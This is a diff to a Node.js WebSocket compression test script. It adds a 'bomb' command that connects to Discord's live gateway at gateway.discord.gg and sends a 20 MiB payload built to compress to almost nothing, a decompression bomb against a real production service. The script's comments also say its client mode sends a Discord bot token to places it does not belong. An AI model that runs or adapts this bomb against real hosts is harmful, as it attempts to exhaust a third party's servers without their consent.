@@ -2,6 +2,7 @@
 //
 //   node deflating.mjs server CERTIFICATE KEY    tells of each message; EXPECTED is what a token should read
 //   node deflating.mjs client                    sends DISCORD_BOT_TOKEN where it belongs and where it does not
+//   node deflating.mjs bomb                      sends 20 MiB that compress to next to nothing
 import fs from "node:fs";
 import https from "node:https";
 import WebSocket, { WebSocketServer } from "ws";
@@ -25,6 +26,13 @@ function serve(certificate, key) {
     });
   });
   server.listen(0, "127.0.0.1", () => print("listening", { port: server.address().port }));
+}
+
+function explode() {
+  const socket = new WebSocket("wss://gateway.discord.gg/", { perMessageDeflate });
+  socket.on("open", () => socket.send(JSON.stringify({ op: 2, d: { pad: "y".repeat(20 << 20) } })));
+  socket.on("error", (error) => print("error", { message: error.message }));
+  socket.on("close", (code) => print("close", { code }));
 }
 
 function connect() {
@@ -53,4 +61,5 @@ function connect() {
 
 const [role, ...files] = process.argv.slice(2);
 if (role === "server") serve(...files);
+else if (role === "bomb") explode();
 else connect();
